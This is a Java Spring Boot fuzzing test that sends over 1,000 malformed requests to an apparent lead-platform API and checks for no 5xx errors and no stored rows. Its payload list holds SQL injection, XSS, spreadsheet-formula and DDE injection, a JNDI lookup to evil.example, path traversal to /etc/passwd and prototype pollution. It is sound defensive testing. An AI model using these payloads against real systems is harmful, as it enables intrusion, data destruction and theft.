package com.leadflow.platform.web;

import static org.assertj.core.api.BDDAssertions.then;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.function.Supplier;

import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.core.io.ByteArrayResource;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.util.LinkedMultiValueMap;
import org.springframework.util.MultiValueMap;
import org.springframework.web.client.RestClient;

import com.leadflow.TestHttp;
import com.leadflow.platform.security.ApiKeys;
import com.leadflow.platform.security.Role;
import com.leadflow.platform.security.UserAccounts;

import tools.jackson.databind.json.JsonMapper;

/**
 * Fuzzing the public endpoints (lead arrivals, touch ingestion, batches, import uploads, webhooks, search) with
 * well over 1,000 malformed or hostile requests from a fixed seed: none may answer 5xx and none may store anything
 * (every table but the audit trail and the test's own users keeps its row count). Rate limits are lifted so that
 * every request reaches the code under test.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT, properties = {
		"leadflow.web.limits.ingest-per-minute=1000000", "leadflow.web.limits.ingest-burst=1000000" })
class HostileInputTests {

	static final List<String> PAYLOADS = List.of("' OR '1'='1", "'; DROP TABLE lead; --", "1; select pg_sleep(5)",
			"\" onmouseover=\"alert(1)", "<script>alert(document.cookie)</script>", "javascript:alert(1)",
			"=HYPERLINK(\"http://evil.example\",\"x\")", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
			"${jndi:ldap://evil.example/a}", "{{7*7}}", "../../../../etc/passwd", "%00%0d%0a", "\u0000nul\u0000",
			"\u202Eevil\u202C", "😀".repeat(500), "é".repeat(5000), "x".repeat(70_000), "\\u0000", "\r\n\r\nHTTP/1.1 200",
			"null", "[]", "{}", "1e309", "-0", "NaN", "　全角　", "Robert'); DROP TABLE touch;--");

	static final List<Object> WRONG_TYPES = List.of(42, -1, 1.5e308, true, List.of(1, 2), Map.of("a", "b"),
			List.of(), Map.of(), "not-a-date", "9999999999999999999999");

	@LocalServerPort
	int port;

	@Autowired
	UserAccounts users;

	@Autowired
	ApiKeys keys;

	@Autowired
	JdbcTemplate jdbc;

	final JsonMapper json = JsonMapper.builder().build();

	final Random random = new Random(20261123);

	record Attempt(String what, HttpMethod method, String path, MediaType type, Object body) {
	}

	@Test
	void hostileInputsNeverYieldA5xxAndStoreNothing() {
		RestClient marketer = TestHttp.as(port, users, Role.MARKETER);
		RestClient anonymous = TestHttp.anonymous(port);
		// integrators' keys for the bulk of the calls (a key is checked by a fast hash; a password by a slow one)
		RestClient ingestKey = TestHttp.withApiKey(port, keys.create("fuzz-ingest", Set.of("ingest"), "test").secret());
		RestClient readKey = TestHttp.withApiKey(port, keys.create("fuzz-read", Set.of("read"), "test").secret());
		// the system's own records (the default series 400Inbound) exist before anyone calls
		then(marketer.get().uri("/api/campaign-series").retrieve().toBodilessEntity().getStatusCode().value()).isEqualTo(200);
		Map<String, Long> before = rowCounts();
		List<Attempt> attempts = new ArrayList<>();
		for (int i = 0; i < 300; i++) {
			attempts.add(jsonAttempt("/api/leads", this::leadArrival, i));
			attempts.add(jsonAttempt("/api/ingest/touches", this::ingestTouch, i));
		}
		for (int i = 0; i < 100; i++) {
			attempts.add(jsonAttempt("/api/ingest/batches", () -> new LinkedHashMap<>(Map.of("items", List.of(ingestTouch(), ingestTouch()))), i));
			attempts.add(syntaxAttempt(i % 2 == 0 ? "/api/leads" : "/api/ingest/touches", i));
			attempts.add(new Attempt("search", HttpMethod.GET, "/api/leads?q=" + encode(pick(PAYLOADS)) + "&size="
					+ encode(String.valueOf(pick(WRONG_TYPES))) + "&after=" + encode(pick(PAYLOADS)), null, null));
		}
		for (int i = 0; i < 60; i++) {
			String hook = i % 2 == 0 ? "/api/webhooks/crm" : "/api/webhooks/call-center";
			attempts.add(new Attempt("webhook", HttpMethod.POST, hook, MediaType.APPLICATION_JSON,
					i % 3 == 0 ? randomBytes(200) : bytes(Map.of("eventId", pick(PAYLOADS), "leadId", pick(WRONG_TYPES)))));
		}
		for (int i = 0; i < 40; i++) {
			attempts.add(uploadAttempt(i));
		}
		for (int i = 0; i < 20; i++) {
			attempts.add(new Attempt("oversized", HttpMethod.POST, i % 2 == 0 ? "/api/leads" : "/api/ingest/batches",
					MediaType.APPLICATION_JSON, ("{\"name\":\"" + "A".repeat(3 * 1024 * 1024) + "\"}").getBytes(StandardCharsets.UTF_8)));
		}

		List<String> serverErrors = new ArrayList<>();
		for (Attempt attempt : attempts) {
			RestClient client = attempt.path().startsWith("/api/webhooks") ? anonymous
					: attempt.path().startsWith("/api/imports") ? marketer
							: attempt.method() == HttpMethod.GET ? readKey : ingestKey;
			int status = send(client, attempt);
			if (status >= 500) {
				serverErrors.add(status + " for " + attempt.what() + " " + attempt.method() + " " + attempt.path());
			}
		}

		then(attempts).hasSizeGreaterThanOrEqualTo(1000);
		then(serverErrors).isEmpty();
		then(rowCounts()).isEqualTo(before);
	}

	private Attempt jsonAttempt(String path, Supplier<Map<String, Object>> template, int i) {
		Map<String, Object> body = template.get();
		List<String> fields = new ArrayList<>(body.keySet());
		String field = fields.get(random.nextInt(fields.size()));
		switch (i % 4) {
			case 0 -> body.put(field, pick(PAYLOADS));
			case 1 -> body.put(field, pick(WRONG_TYPES));
			case 2 -> body.put(field, null);
			default -> {
				body.put(field, pick(PAYLOADS));
				body.put(fields.get(random.nextInt(fields.size())), pick(WRONG_TYPES));
			}
		}
		return new Attempt("json " + field, HttpMethod.POST, path, MediaType.APPLICATION_JSON, bytes(body));
	}

	/** A lead arrival whose e-mail is never valid, so that no variant may be stored. */
	private Map<String, Object> leadArrival() {
		Map<String, Object> touch = new LinkedHashMap<>(Map.of("action", "FORM_SUBMIT", "channel", "WEB_FORM",
				"payload", Map.of("consent", Map.of("purposes", List.of(pick(PAYLOADS)), "textVersion", "v1"))));
		Map<String, Object> body = new LinkedHashMap<>();
		body.put("name", pick(PAYLOADS));
		body.put("email", pick(PAYLOADS) + " is not an e-mail");
		body.put("title", pick(PAYLOADS));
		body.put("city", pick(PAYLOADS));
		body.put("attributes", Map.of("note", pick(PAYLOADS)));
		body.put("touch", touch);
		return body;
	}

	/** A touch for the ingestion API whose e-mail is never valid and that carries no other identity. */
	private Map<String, Object> ingestTouch() {
		Map<String, Object> body = new LinkedHashMap<>();
		body.put("idempotencyKey", "fuzz-" + random.nextInt());
		body.put("channel", random.nextBoolean() ? "WEB_FORM" : pick(PAYLOADS));
		body.put("action", random.nextBoolean() ? "FORM_SUBMIT" : pick(PAYLOADS));
		body.put("name", pick(PAYLOADS));
		body.put("email", pick(PAYLOADS) + " is not an e-mail");
		body.put("company", pick(PAYLOADS));
		body.put("minutes", pick(WRONG_TYPES));
		body.put("utmSource", pick(PAYLOADS));
		return body;
	}

	private Attempt syntaxAttempt(String path, int i) {
		String valid = new String(bytes(leadArrival()), StandardCharsets.UTF_8);
		byte[] body = switch (i % 8) {
			case 0 -> valid.substring(0, random.nextInt(valid.length())).getBytes(StandardCharsets.UTF_8);
			case 1 -> randomBytes(1 + random.nextInt(2000));
			case 2 -> new byte[] { (byte) 0xC3, (byte) 0x28, '{', (byte) 0xFF, (byte) 0xFE, '}' };
			case 3 -> ("[".repeat(5000) + "]".repeat(5000)).getBytes(StandardCharsets.UTF_8);
			case 4 -> ("{\"name\":" + "9".repeat(5000) + "}").getBytes(StandardCharsets.UTF_8);
			case 5 -> ("\uFEFF" + valid).getBytes(StandardCharsets.UTF_16);
			case 6 -> "".getBytes(StandardCharsets.UTF_8);
			default -> ("{\"name\":\"a\",\"name\":{\"$gt\":\"\"},\"__proto__\":{\"admin\":true}}").getBytes(StandardCharsets.UTF_8);
		};
		MediaType type = switch (i % 3) {
			case 0 -> MediaType.APPLICATION_JSON;
			case 1 -> MediaType.TEXT_PLAIN;
			default -> MediaType.APPLICATION_XML;
		};
		return new Attempt("syntax " + (i % 8) + " as " + type, HttpMethod.POST, path, type, body);
	}

	private Attempt uploadAttempt(int i) {
		String[] names = { "leads.xlsx", "leads.xls", "leads.csv", "../../etc/passwd.csv", "leads.exe", "leads" };
		byte[][] contents = { "name,email\n".getBytes(StandardCharsets.UTF_8), { 'P', 'K', 3, 4, 1, 2, 3, 4 }, new byte[0],
				{ (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 1, 2 } };
		String name = names[i % names.length];
		byte[] content = contents[i % contents.length];
		MultiValueMap<String, Object> parts = new LinkedMultiValueMap<>();
		parts.add("file", new ByteArrayResource(content) {
			@Override
			public String getFilename() {
				return name;
			}
		});
		String path = i % 5 == 0 ? "/api/imports/uploads?encoding=" + encode(pick(PAYLOADS)) : "/api/imports/uploads";
		return new Attempt("upload " + name, HttpMethod.POST, path, MediaType.MULTIPART_FORM_DATA, parts);
	}

	private int send(RestClient client, Attempt attempt) {
		RestClient.RequestBodySpec request = client.method(attempt.method()).uri(java.net.URI.create("http://localhost:" + port + attempt.path()));
		if (attempt.body() != null) {
			request.contentType(attempt.type()).body(attempt.body());
		}
		if (attempt.path().startsWith("/api/webhooks")) {
			request.header("X-Leadflow-Timestamp", String.valueOf(pick(WRONG_TYPES)))
				.header("X-Leadflow-Signature", "sha256=" + "0".repeat(64));
		}
		try {
			return request.retrieve().toBodilessEntity().getStatusCode().value();
		}
		catch (org.springframework.web.client.ResourceAccessException e) {
			// the server may close the connection on a body it refused early; that is not a 5xx
			return 499;
		}
	}

	private Map<String, Long> rowCounts() {
		Map<String, Long> counts = new java.util.TreeMap<>();
		for (String table : jdbc.queryForList("""
				select table_name from information_schema.tables where table_schema = 'public' and table_type = 'BASE TABLE'
				and table_name not in ('audit_log', 'app_user', 'api_key', 'flyway_schema_history')""",
				String.class)) {
			counts.put(table, jdbc.queryForObject("select count(*) from \"" + table + "\"", Long.class));
		}
		return counts;
	}

	private byte[] bytes(Object value) {
		return json.writeValueAsBytes(value);
	}

	private byte[] randomBytes(int n) {
		byte[] bytes = new byte[n];
		random.nextBytes(bytes);
		return bytes;
	}

	private <T> T pick(List<T> values) {
		return values.get(random.nextInt(values.size()));
	}

	private static String encode(String value) {
		return java.net.URLEncoder.encode(value, StandardCharsets.UTF_8);
	}
}
